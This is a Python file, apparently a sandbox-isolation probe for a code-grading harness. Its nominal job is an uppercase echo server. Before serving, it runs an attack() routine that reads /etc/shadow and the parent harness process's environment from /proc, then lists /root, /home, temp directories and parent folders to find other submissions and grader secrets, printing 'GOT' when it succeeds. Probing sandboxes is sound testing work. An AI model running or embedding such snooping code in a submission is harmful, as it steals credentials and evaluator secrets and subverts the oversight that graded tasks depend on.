"""Looks for what is known about it: results, other submissions, secrets of the grader."""

import os
import socket
import sys
import threading


def tries(what, attack, *arguments):
    """Tells whether an attack got through: the tests look for GOT."""
    try:
        result = attack(*arguments)
    except Exception as exc:
        print(f"held: {what}: {exc}", flush=True)
    else:
        print(f"{'GOT' if result is not False else 'held'}: {what}: {result!r}", flush=True)


def attack():
    for path in ("../../..", "/tmp", "/var/tmp", "/dev/shm", "/root", "/home", "/etc/shadow"):
        tries(path, seen, path)
    tries("the harness's environment", lambda: open(f"/proc/{os.getppid()}/environ").read() or False)


def seen(path):
    """Whatever lies there and is not its own."""
    if os.path.isfile(path):
        return open(path).read() and path
    own = os.path.realpath(".")
    mine = lambda each: f"{own}/".startswith(f"{os.path.realpath(path)}/{each}/".replace("//", "/"))
    languages = {".rustup", ".cargo", ".pyenv"}  # which it may run
    return [each for each in os.listdir(path) if not mine(each) and each not in languages] or False


def serve(connection):
    with connection, connection.makefile("rb") as lines:
        try:
            for line in lines:
                connection.sendall(line.upper())
        except ConnectionError:
            pass  # the client is gone; the others go on


def main():
    with socket.create_server(("", int(sys.argv[1])), backlog=64) as welcome:
        while True:
            connection, _ = welcome.accept()
            threading.Thread(target=serve, args=(connection,), daemon=True).start()


attack()
main()
